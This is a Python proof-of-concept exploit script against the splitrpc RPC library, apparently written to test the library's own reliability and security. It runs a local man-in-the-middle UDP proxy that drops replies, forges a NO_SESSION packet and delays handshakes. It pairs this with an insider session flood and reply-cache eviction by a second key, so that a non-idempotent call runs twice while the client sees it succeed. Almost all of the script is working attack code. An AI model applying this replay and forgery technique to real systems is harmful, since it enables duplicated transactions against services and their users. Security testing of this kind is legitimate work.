"""ATTACK against splitrpc's OWN client (Client(timeout=10.0, key=...), nothing else tuned): the same
server hole as attack_forged_ns.py flush mode, with the victim being splitrpc.Client behind an on-path
proxy (this script, 127.0.0.1:47730) that
  - drops the replies of function 1 (X's reply, and its cached answers to X's retransmissions),
  - 0.3 s after X's first reply forges ONE NO_SESSION naming the session and X's req_id,
  - drops the client's INITs for 6 s (its first five copies; the sixth, same bytes, is let through),
while a holder of key 1 (the victim's key) makes the server forget the now silent session and a caller of
key 2 pushes X out of the reply cache with large replies. The victim's call then returns normally,
but X has run twice.

Usage: python attack_proxy_splitrpc.py PORT [TIMEOUT=10]  (fresh count_server.py on PORT; ~15 s)
(splitrpc.Client's own default timeout is 1 s: such a call has given up long before; the attack needs a
call timeout of about 7 s or more, e.g. the Client(timeout=10.0) of docs/reliability.md.)"""
import sys, os, time, socket, threading, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
import splitrpc

PORT = int(sys.argv[1]); SRV = ("127.0.0.1", PORT); PX = ("127.0.0.1", 47730)
ps = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); ps.bind(PX)          # client-facing
up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); up.bind(("127.0.0.1", 0))  # server-facing
st = dict(client=None, t0=None, sid=None, rid=None, ns_sent=False, inits_dropped=0, release=None, drops=0, log=[])
stop = threading.Event()


def c2s():
    ps.settimeout(0.1)
    while not stop.is_set():
        try: d, a = ps.recvfrom(70000)
        except socket.timeout: continue
        st["client"] = a; h = parse_hdr(d)
        if h and h["typ"] == T_INIT and st["ns_sent"] and (st["release"] is None or time.time() < st["release"]):
            st["inits_dropped"] += 1; st["log"].append(f"+{time.time()-st['t0']:.2f}s drop INIT copy {st['inits_dropped']} (prev={d[70:78].hex()})"); continue
        if h and h["typ"] == T_INIT and st["ns_sent"]:
            st["log"].append(f"+{time.time()-st['t0']:.2f}s pass INIT (prev={d[70:78].hex()})")
        up.sendto(d, SRV)


def s2c():
    up.settimeout(0.1)
    while not stop.is_set():
        try: d = up.recv(70000)
        except socket.timeout: continue
        h = parse_hdr(d)
        if h and h["typ"] == T_RESP and h["func"] == 1 and (st["release"] is None or time.time() < st["release"]):
            if st["t0"] is None:
                st["t0"] = time.time(); st["sid"] = d[-32:-24]; st["rid"] = h["req_id"]
                st["log"].append(f"+0.00s drop X's reply (session {st['sid'].hex()}, req_id {st['rid']})")
            st["drops"] += 1; continue
        ps.sendto(d, st["client"])


def forger():
    while st["t0"] is None: time.sleep(0.01)
    time.sleep(0.3)
    ps.sendto(hdr(T_NOSESS, 1, st["rid"], 0, 1, 8, 0) + st["sid"], st["client"]); st["ns_sent"] = True
    st["release"] = time.time() + 6.0
    st["log"].append(f"+{time.time()-st['t0']:.2f}s forged NO_SESSION sent to the client")


ins = Insider(PORT); ins.flood(2200); print("insider holds", len(ins.mine), "sessions")
fl = Client(PORT, key=load_client(os.path.join(AD, "client2.json"))); fl.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20); FS = fl.handshake()
for f in (c2s, s2c, forger): threading.Thread(target=f, daemon=True).start()
TMO = float(sys.argv[2]) if len(sys.argv) > 2 else 10.0   # reliability.md: "A default Client(timeout=10.0)"
victim = splitrpc.Client("127.0.0.1", 47730, timeout=TMO, key=os.path.join(AD, "client.json"))
print("victim warm-up call (count):", victim.call(2, b"c"))
X = b"splitrpc-client-X-" + os.urandom(8); res = {}
th = threading.Thread(target=lambda: res.update(r=(lambda: victim.call(1, X))()), daemon=True)
tstart = time.time(); th.start()
while st["t0"] is None: time.sleep(0.01)
t0 = st["t0"]; time.sleep(0.5); ins.touch_all()
while time.time() - t0 < 2.6: time.sleep(0.05)
for k in range(6):
    ins.flood(150, keep=False); s = stats(PORT); print(f"+{time.time()-t0:.2f}s insider INIT batch {k}:", s)
    if s["tombstones"]: break
frid = int.from_bytes(os.urandom(5), "big")
for i in range(1300):
    frid += 1; fl.send(FS.seal(T_REQ, 5, frid, 0, 1, 8, 0, (60000).to_bytes(4, "little") + os.urandom(4)))
    if i % 16 == 15: time.sleep(0.002)
time.sleep(0.3); print(f"+{time.time()-t0:.2f}s after 1300 large replies of key 2:", stats(PORT))
th.join(12); stop.set()
print("\n".join(st["log"]))
print(f"victim's call returned after {time.time()-tstart:.2f}s:", (bytes(res['r']) == X) if 'r' in res else res, "| client stats:",
      {k: v for k, v in victim.stats().items() if k in ("handshakes", "no_sessions", "no_sessions_deferred", "session_resends", "retransmits", "bad_auth", "handshakes_failed")})
print("after:", stats(PORT))
n = runs(X); print("X ran", len(n), "times", "<-- RAN TWICE" if len(n) > 1 else "")
victim.close()
